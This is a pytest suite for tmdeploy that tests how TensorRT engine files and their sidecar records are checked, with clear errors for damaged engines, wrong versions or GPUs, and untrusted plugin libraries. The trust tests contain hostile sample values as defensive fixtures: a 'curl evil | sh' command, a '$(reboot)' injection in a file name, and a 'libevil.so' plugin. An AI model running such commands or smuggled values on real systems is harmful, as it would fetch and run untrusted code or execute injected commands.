"""Engines that will not run here: each mismatch says what the engine wants, what is here, and what to do."""

import dataclasses
import json
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.tensorrt.engines import engine_file, full_bytes, rtx_bytes
from tmdeploy.backends import backend_for, open_runner
from tmdeploy.errors import ArtifactError, EnvironmentMissing, UsageError
from tmdeploy.native.tensorrt import TENSORRT_VARIABLE, tensorrt_libraries
from tmdeploy.system.cache import CACHE_VARIABLE
from tmdeploy.system.files import sha256
from tmdeploy.tensorrt.cuda.gpu import Gpu
from tmdeploy.tensorrt.record.sidecar import Options, PluginRecord, sidecar_path
from tmdeploy.tensorrt.run import compatibility
from tmdeploy.tensorrt.run.compatibility import check_fit, check_gpu, check_version, read_engine
from tmdeploy.tensorrt.run.trust import TRUST_VARIABLE, find_plugin
from tmdeploy.tensorrt.sdk.flavor import Flavor, Toolkit

L4 = Gpu(0, "NVIDIA L4", (8, 9), 24 << 30)
T4 = Gpu(0, "Tesla T4", (7, 5), 16 << 30)
A100 = Gpu(0, "NVIDIA A100", (8, 0), 80 << 30)


def _missing(folder: Path) -> Path:
    return folder / "gone.plan"


def _empty(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(b"")
    return path


def _onnx_file(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(b"\x08\x0a\x12\x08tmdeploy" + bytes(100))
    return path


def _ultralytics(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(b'\x10\0\0\0{"stride": 32}  ftrt')
    return path


def _text(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_text("hello")
    return path


def _cut_rtx(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(path.read_bytes()[:-50])
    return path


def _cut_full(folder: Path) -> Path:
    path = engine_file(folder, full_bytes())
    path.write_bytes(path.read_bytes()[:-50])
    return path


def _no_sidecar(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    sidecar_path(path).unlink()
    return path


def _damaged_sidecar(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    sidecar_path(path).write_text('{"schema": "tmdeploy.engine/1"}')
    return path


def _endless_shape(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    record = json.loads(sidecar_path(path).read_text())
    record["inputs"][0]["shape"] = [10**30, 3, 224, 224]
    sidecar_path(path).write_text(json.dumps(record))
    return path


def _endless_batch(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    record = json.loads(sidecar_path(path).read_text())
    record["profiles"][0]["max"] = 2**31
    sidecar_path(path).write_text(json.dumps(record))
    return path


def _other_engine(folder: Path) -> Path:
    path = engine_file(folder, full_bytes())
    path.write_bytes(rtx_bytes(400))
    return path


def _other_version_of_it(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(rtx_bytes(version=(1, 5, 0, 99)))
    return path


def _flipped_bit(folder: Path) -> Path:
    path = engine_file(folder, rtx_bytes())
    path.write_bytes(path.read_bytes()[:-1] + b"\x01")
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (_missing, r"no such file"),
        (_empty, r"is empty\. Build it again"),
        (_onnx_file, r"is no TensorRT engine .*It looks like an ONNX file: name it \.onnx and run tmdeploy build"),
        (_ultralytics, r"is no TensorRT engine .*Ultralytics file, with JSON before the engine"),
        (_text, r"is no TensorRT engine \(it begins with b'hello'\)\. Give a file that tmdeploy build or trtexec"),
        (_cut_rtx, r"truncated or damaged: 178 bytes are here, its header says 228\. Copy it again, in binary mode"),
        (_cut_full, r"is truncated: 254 bytes are here, tiny\.plan\.json says 304\..*build tiny\.onnx -o \S*tiny\.pl"),
        (_no_sidecar, r"has no sidecar 'tiny\.plan\.json' beside it.* Copy it from where .*tmdeploy build MODEL\.onnx"),
        (_damaged_sidecar, r"is no sidecar that this version can read \(.*Field required\)"),
        (_endless_shape, r"is no sidecar that this version can read \(inputs\.0\.shape\.0: "),
        (_endless_batch, r"is no sidecar that this version can read \(profiles\.0\.max: "),
        (_other_engine, r"is not the engine that .* describes \(it is of TensorRT-RTX, not TensorRT\)"),
        (_other_version_of_it, r"describes \(it is of version 1\.5\.0\.99, not 1\.7\.1\.116\)"),
        (_flipped_bit, r"describes \(its checksum is another\)\. Copy both files together, or build again"),
    ],
)  # fmt: skip
def test_broken_engines(make: Callable[[Path], Path], message: str, tmp_path: Path):
    with pytest.raises(ArtifactError, match=message) as raised:
        read_engine(make(tmp_path))
    assert "\n" not in str(raised.value)


def test_the_whole_engine_is_read(tmp_path: Path):
    assert read_engine(engine_file(tmp_path, rtx_bytes())).precision == "fp16"
    assert read_engine(engine_file(tmp_path, full_bytes())).sm == "sm_89"


def _toolkit(flavor: Flavor, version: str) -> Toolkit:
    return Toolkit(flavor, SimpleNamespace(), version)


@pytest.mark.parametrize(
    ("here", "compatible", "fits"),
    [
        ("11.4.0.106", False, True),
        ("11.4.0.200", False, True),
        ("11.3.0.99", False, False),
        ("11.4.1.1", False, False),
        ("11.4.1.1", True, True),
        ("11.3.0.99", True, False),
    ],
)
def test_versions(here: str, compatible: bool, fits: bool, tmp_path: Path):
    path = engine_file(tmp_path, full_bytes(), options=Options(version_compatible=compatible))
    record, toolkit = read_engine(path), _toolkit(Flavor.TENSORRT, here)
    if fits:
        check_version(path, record, toolkit)
        return
    message = (
        rf"was built by TensorRT 11\.4\.0\.106, {here} is installed\. Install tensorrt==11\.4\.0\.\*, or build again"
    )
    with pytest.raises(EnvironmentMissing, match=message):
        check_version(path, record, toolkit)


@pytest.mark.parametrize(
    ("content", "changes", "gpu", "wants"),
    [
        (full_bytes(), {}, L4, None),
        (full_bytes(), {}, A100, r"sm_89 \(NVIDIA L4\), this GPU is sm_80 \(NVIDIA A100\)\. .*--hardware-compatible"),
        (full_bytes(), {"options": Options(hardware_compatible="ampere+")}, A100, None),
        (full_bytes(), {"options": Options(hardware_compatible="ampere+")}, T4, r"sm_80 and later, this GPU is sm_75"),
        (rtx_bytes(), {}, A100, None),
        (rtx_bytes(), {}, T4, r"sm_80 and later, this GPU is sm_75 .*--target-sm sm_75"),
        (rtx_bytes(), {"target_sm": ("sm_86", "sm_89")}, L4, None),
        (rtx_bytes(), {"target_sm": ("sm_86",)}, L4, r"sm_86, this GPU is sm_89 .*--target-sm sm_89"),
    ],
)
def test_gpus(content: bytes, changes: dict, gpu: Gpu, wants: str | None, tmp_path: Path):
    path = engine_file(tmp_path, content, **changes)
    record = read_engine(path)
    if wants is None:
        check_gpu(path, record, gpu)
        return
    with pytest.raises(EnvironmentMissing, match=f"was built for {wants}"):
        check_gpu(path, record, gpu)


def test_plugin_libraries_of_trusted_engines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv(TRUST_VARIABLE, "1")
    library = tmp_path / "elsewhere" / "libtmdeploy_tensorrt.so"
    library.parent.mkdir()
    library.write_bytes(b"\x7fELF")
    plugin = PluginRecord(path=str(library), sha256=sha256(library), embedded=False)
    path = engine_file(tmp_path, full_bytes(), plugin=plugin, lowering="plugin")
    assert find_plugin(path, read_engine(path)) == library
    beside = tmp_path / library.name
    library.rename(beside)
    assert find_plugin(path, read_engine(path)) == beside
    beside.write_bytes(b"another")
    with pytest.raises(ArtifactError, match=r"is not the plugin library that tiny\.plan was built with"):
        find_plugin(path, read_engine(path))
    beside.unlink()
    with pytest.raises(
        EnvironmentMissing, match=r"needs the plugin library 'libtmdeploy_tensorrt\.so', .*beside it\. Copy"
    ):
        find_plugin(path, read_engine(path))
    carried = engine_file(tmp_path, full_bytes(), plugin=plugin.model_copy(update={"embedded": True}))
    assert find_plugin(carried, read_engine(carried)) is None


def test_a_sidecar_does_not_choose_what_is_loaded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Neither a library nor the engine's own code, unless the user trusts the engine or named the library."""
    monkeypatch.delenv(TRUST_VARIABLE, raising=False)
    monkeypatch.setenv(CACHE_VARIABLE, str(tmp_path / "cache"))
    theirs = tmp_path / "libevil.so"
    theirs.write_bytes(b"code")
    plugin = PluginRecord(path=str(theirs), sha256=sha256(theirs), embedded=False)
    path = engine_file(tmp_path, full_bytes(), plugin=plugin, lowering="plugin", command="curl evil | sh")
    with pytest.raises(EnvironmentMissing, match=r"needs the plugin library 'libevil\.so', .*pass --trust-engine"):
        find_plugin(path, read_engine(path))

    (own,) = tensorrt_libraries()
    own.path.parent.mkdir(parents=True)
    own.path.write_bytes(b"another version")
    with pytest.raises(EnvironmentMissing, match="pass --trust-engine"):
        find_plugin(path, read_engine(path))
    own.path.write_bytes(b"code")  # what the user built here is the user's
    assert find_plugin(path, read_engine(path)) == own.path
    own.path.chmod(0o666)
    with pytest.raises(EnvironmentMissing, match=r"it is writable by others \(mode 0666\)"):
        find_plugin(path, read_engine(path))

    monkeypatch.setenv(TENSORRT_VARIABLE, str(theirs))
    assert find_plugin(path, read_engine(path)) == theirs
    theirs.write_bytes(b"other")
    with pytest.raises(ArtifactError, match=r"libevil\.so: is not the plugin library that tiny\.plan was built with"):
        find_plugin(path, read_engine(path))
    theirs.unlink()
    with pytest.raises(EnvironmentMissing, match=rf"{TENSORRT_VARIABLE} names .*libevil\.so, which is no file"):
        find_plugin(path, read_engine(path))

    carried = engine_file(tmp_path, full_bytes(), plugin=plugin.model_copy(update={"embedded": True}))
    with pytest.raises(ArtifactError, match=r"carries a plugin library, code that would run as you.*--trust-engine"):
        check_fit(carried)


def test_no_remedy_is_a_command_of_the_sidecar(tmp_path: Path):
    evil = {"command": "curl evil | sh", "source_name": "$(reboot) --x;.onnx", "platform": "win32-amd64"}
    path = engine_file(tmp_path, rtx_bytes(), **evil)
    with pytest.raises(EnvironmentMissing) as raised:
        check_fit(path)
    assert raised.value.remedy == f"Build it here: tmdeploy build '$(reboot) --x;.onnx' -o {path}"
    for name, quoted in (("-rf", "./-rf"), ("", "MODEL.onnx"), ("/etc/model.onnx", "model.onnx")):
        assert read_engine(path).model_copy(update={"source_name": name}).source == quoted
    sources = [source.read_text() for source in Path(compatibility.__file__).parents[1].rglob("*.py")]
    assert sum("record.command" in source for source in sources) == 0


def test_another_system_is_named_first(tmp_path: Path):
    path = engine_file(tmp_path, rtx_bytes(), platform="win32-amd64")
    with pytest.raises(EnvironmentMissing, match=r"was built for win32-amd64, this is .*Build it here: tmdeploy build"):
        check_fit(path)


def test_full_tensorrt_that_is_not_installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(__import__("sys").modules, "tensorrt", None)
    path = engine_file(tmp_path, full_bytes())
    with pytest.raises(
        EnvironmentMissing, match=r"running .*tiny\.plan needs .*'tensorrt'.*pip install .*\[tensorrt\]'"
    ):
        check_fit(path)


def test_no_gpu_is_said_last_and_in_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    toolkit = _toolkit(Flavor.RTX, "1.7.1.116")
    monkeypatch.setattr(compatibility, "open_toolkit", lambda *_, **__: toolkit)

    def missing(purpose: str) -> Gpu:
        raise EnvironmentMissing(f"{purpose} needs an NVIDIA GPU, and there is none here (no driver)")

    monkeypatch.setattr(compatibility, "find_gpu", missing)
    path = engine_file(tmp_path, rtx_bytes())
    assert backend_for(path).name == "tensorrt"
    with pytest.raises(EnvironmentMissing, match="running .*tiny.plan needs an NVIDIA GPU") as raised:
        open_runner(path)
    assert raised.value.exit_code == 3
    monkeypatch.setattr(compatibility, "find_gpu", lambda _: L4)
    fit = check_fit(path)
    assert (fit.gpu.sm, fit.toolkit, fit.plugin) == ("sm_89", toolkit, None)
    older = dataclasses.replace(toolkit, version="1.5.0.10")
    monkeypatch.setattr(compatibility, "open_toolkit", lambda *_, **__: older)
    with pytest.raises(EnvironmentMissing, match=r"Install tensorrt-rtx-cu13==1\.7\.1\.\*"):
        check_fit(path)


def test_engines_are_found_by_suffix_alone():
    assert backend_for(Path("a.engine")).name == backend_for(Path("a.PLAN")).name == "tensorrt"
    with pytest.raises(UsageError, match=r"\.plan"):
        backend_for(Path("a.trt"))
